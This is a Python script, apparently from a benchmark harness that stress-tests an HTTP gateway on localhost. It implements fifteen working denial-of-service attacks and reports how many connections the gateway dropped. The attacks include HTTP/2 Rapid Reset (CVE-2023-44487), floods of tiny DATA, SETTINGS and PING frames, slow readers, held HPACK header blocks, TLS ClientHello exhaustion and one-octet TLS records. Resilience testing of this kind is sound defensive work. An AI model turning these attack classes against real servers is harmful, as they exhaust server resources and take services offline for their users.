#!/usr/bin/env python3
"""One attack on a gateway, until SIGTERM: `attackers.py NAME PORT TLS-PORT RELAY-PORT`. See `ATTACKS` for the names.

At its end it prints one line of JSON: octets sent, and how often the gateway ended one of its connections.
"""

import contextlib
import errno
import json
import pathlib
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

from measure import http2, machine, relay  # noqa: E402

CLIENT = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0)
NO_WINDOW = http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
SINK = "/attacked/Sink"  # takes a body, and answers when that has ended
MEBI = "/attacked/Mebi"  # an answer of 1 MiB
BATCH = 512  # frames that are sent at once
FIELDS = http2.header_block([(":method", "POST"), (":scheme", "http"), (":path", SINK), (":authority", "bench.test")])


def head(stream, path=SINK, end=False):
    return http2.Client.opening(stream, path, end=end)


def field(name, value):
    """A literal that enters the HPACK table: up to 4,000 octets."""
    size = len(value)
    length = bytes((size,)) if size < 127 else bytes((127, (size - 127) & 127 | 128, (size - 127) >> 7))
    return b"\x40" + bytes((len(name),)) + name + length + value


class Attacker:
    """One connection: `first` is sent once, then `more()` over and over, as fast as the gateway takes it."""

    first = CLIENT
    again = b""
    connections = 4
    reads = True
    door = 0  # the port that is attacked, in the order of the arguments: 1 has TLS, 2 passes TLS on
    holds = 0.0  # seconds until the connection is closed and made anew; 0: only when the gateway has ended it

    def __init__(self, port):
        self.socket = socket.socket()
        if not self.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.pending, self.input, self.began = memoryview(self.first), b"", time.monotonic()

    def more(self):
        return self.again

    def took(self, octets):
        """Looks at what the gateway says."""

    def has_more(self):
        return True

    def turn(self):
        """Reads and sends what goes now; returns the octets sent. Raises when the connection is over."""
        if self.holds and time.monotonic() - self.began > self.holds:
            raise EOFError
        if self.reads:
            with contextlib.suppress(BlockingIOError):
                octets = self.socket.recv(1 << 16)
                if not octets:
                    raise ConnectionResetError
                self.took(octets)
        if not self.pending:
            self.pending = memoryview(self.more())
        if not self.pending:
            return 0
        try:
            sent = self.socket.send(self.pending)
        except BlockingIOError:
            return 0
        self.pending = self.pending[sent:]
        return sent


class TinyData(Attacker):
    """DATA frames of one octet, as many as the windows allow."""

    size = 1

    def __init__(self, port):
        self.first = CLIENT + b"".join(head(stream) for stream in range(1, 33, 2))
        self.windows = {stream: 65_535 for stream in range(0, 33) if stream == 0 or stream % 2}
        super().__init__(port)

    def more(self):
        stream = max(range(1, 33, 2), key=self.windows.get)
        count = min(self.windows[0], self.windows[stream], BATCH)
        self.windows[0] -= count
        self.windows[stream] -= count
        return http2.frame(http2.DATA, 0, stream, b"x") * count

    def has_more(self):
        return self.windows[0] > 0 and max(self.windows[stream] for stream in range(1, 33, 2)) > 0

    def took(self, octets):
        data, place = self.input + octets, 0
        while len(data) - place >= 9:
            length = int.from_bytes(data[place:place + 3], "big")
            if len(data) - place - 9 < length:
                break
            stream = int.from_bytes(data[place + 5:place + 9], "big") & 0x7FFFFFFF
            if data[place + 3] == http2.WINDOW and stream in self.windows:
                self.windows[stream] += int.from_bytes(data[place + 9:place + 13], "big")
            place += 9 + length
        self.input = data[place:]


class TinyChunks(Attacker):
    """Chunks of one octet, by HTTP/1.1."""

    first = f"POST {SINK} HTTP/1.1\r\nhost: bench.test\r\ntransfer-encoding: chunked\r\n\r\n".encode()
    again = b"1\r\nx\r\n" * BATCH


class EmptyData(Attacker):
    """DATA frames without an octet of a body."""

    first = CLIENT + head(1)
    again = http2.frame(http2.DATA, 0, 1) * BATCH


class Priority(Attacker):
    """PRIORITY, which means nothing any more."""

    again = http2.frame(2, 0, 1, bytes(5)) * BATCH


class Settings(Attacker):
    """SETTINGS that move the windows of 100 streams to and fro."""

    first = CLIENT + b"".join(head(stream) for stream in range(1, 201, 2))
    again = b"".join(http2.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 4, size)) for size in (9, 65_535)) * BATCH


class Ping(Attacker):
    """PING, with each answer read."""

    again = http2.frame(http2.PING, 0, 0, bytes(8)) * BATCH


class RefusedHeaders(Attacker):
    """Header sections of 11 kB that no gateway may accept, because a name is written in capitals."""

    def __init__(self, port):
        self.stream = -1
        self.block = http2.header_block(
            [(":method", "POST"), (":scheme", "http"), (":path", SINK), (":authority", "bench.test"), ("X", "bad")]
            + [(f"x-{index}", "v" * 120) for index in range(84)])
        super().__init__(port)

    def more(self):
        self.stream += 2
        return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, self.stream, self.block)


class RapidReset(Attacker):
    """Requests that are given up at once (CVE-2023-44487)."""

    def __init__(self, port):
        self.stream = -1
        super().__init__(port)

    def more(self):
        octets = []
        for _ in range(64):
            self.stream += 2
            octets += [head(self.stream), http2.frame(http2.RESET, 0, self.stream, struct.pack(">I", 8))]
        return b"".join(octets)


class Unread(Attacker):
    """W4: 100 answers of 1 MiB on each of 20 connections, and no window for them."""

    first = NO_WINDOW + b"".join(head(stream, MEBI, end=True) for stream in range(1, 201, 2))
    connections, holds = 20, 1.0


class SlowReaders(Attacker):
    """Answers of 1 MiB that are not read from the socket."""

    first = f"GET {MEBI} HTTP/1.1\r\nhost: bench.test\r\n\r\n".encode()
    connections, reads, holds = 200, False, 2.0


class HeldHeaders(Attacker):
    """A4: 100 requests of 56 kB of fields on each of 60 connections, in 10 kB, which do not end."""

    first = CLIENT + http2.frame(http2.HEADERS, http2.END_HEADERS, 1, FIELDS + field(b"x-a", b"x" * 3900)) + b"".join(
        http2.frame(http2.HEADERS, http2.END_HEADERS, stream, FIELDS + b"\xbe" * 14) for stream in range(3, 201, 2))
    connections, holds = 60, 1.0


class Visitors(Attacker):
    """500 connections that come and go, without an octet."""

    first = b""
    connections, holds = 500, 0.05


class Hellos(Attacker):
    """TLS handshakes that end behind the ClientHello: the gateway has to sign, and the attacker to do nothing."""

    connections, door = 64, 1

    def __init__(self, port):
        self.first = relay.client_hello("bench.test", ("h2",))
        super().__init__(port)

    def took(self, octets):
        raise EOFError

    def has_more(self):
        return False


class TinyRecords(Attacker):
    """TLS records of one octet, with a body by HTTP/1.1."""

    door = 1

    def __init__(self, port):
        self.first = b""
        super().__init__(port)
        self.coming, self.records = ssl.MemoryBIO(), ssl.MemoryBIO()
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        self.session = context.wrap_bio(self.coming, self.records, server_hostname="bench.test")
        self.shake_hands()
        self.session.write(TinyChunks.first)

    def shake_hands(self):
        self.socket.setblocking(True)
        while True:
            try:
                self.session.do_handshake()
            except ssl.SSLWantReadError:
                self.socket.sendall(self.records.read())
                self.coming.write(self.socket.recv(1 << 16))
            else:
                break
        self.socket.setblocking(False)

    def more(self):
        for octet in b"1\r\nx\r\n" * (BATCH // 8):
            self.session.write(bytes((octet,)))
        return self.records.read()


class Relayed(Attacker):
    """100 connections that are passed on as octets, as fast as they are taken."""

    connections, door, again = 100, 2, relay.PIECE

    def __init__(self, port):
        self.first = relay.client_hello("relay.test")
        super().__init__(port)


ATTACKS = {
    "data": TinyData, "chunks": TinyChunks, "empty": EmptyData, "priority": Priority, "settings": Settings,
    "ping": Ping, "headers": RefusedHeaders, "reset": RapidReset, "unread": Unread, "readers": SlowReaders,
    "hpack": HeldHeaders, "visitors": Visitors, "hellos": Hellos,
    "records": TinyRecords, "relays": Relayed}


class Attack:
    def __init__(self, kind, port):
        self.kind, self.port = kind, port
        self.sent = self.ended = 0
        self.running = []
        self.selector = selectors.DefaultSelector()

    def connect(self):
        try:
            attacker = self.kind(self.port)
        except OSError as error:
            if error.errno in (errno.EMFILE, errno.EADDRNOTAVAIL):
                raise
            return  # the gateway takes no connection now
        self.running.append(attacker)
        self.selector.register(attacker.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attacker)

    def turn(self):
        while len(self.running) < self.kind.connections:
            self.connect()
        for attacker in [*self.running] if self.kind.holds else [key.data for key, _ in self.selector.select(0.05)]:
            try:
                self.sent += attacker.turn()
            except (OSError, EOFError) as end:
                self.ended += not isinstance(end, EOFError)
                self.running.remove(attacker)
                self.selector.unregister(attacker.socket)
                attacker.socket.close()
                continue
            # Who has nothing to send now waits for what the gateway says.
            events = selectors.EVENT_WRITE if attacker.pending or attacker.has_more() else 0
            self.selector.modify(attacker.socket, events | selectors.EVENT_READ, attacker)
        if self.kind.holds:
            machine.run_on(0.005)

    def run(self):
        try:
            while True:
                self.turn()
        except KeyboardInterrupt:
            print(json.dumps({"sent": self.sent, "ended": self.ended}), flush=True)


def interrupt(*_):
    raise KeyboardInterrupt


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, interrupt)
    chosen = ATTACKS[sys.argv[1]]
    Attack(chosen, int(sys.argv[2 + chosen.door])).run()
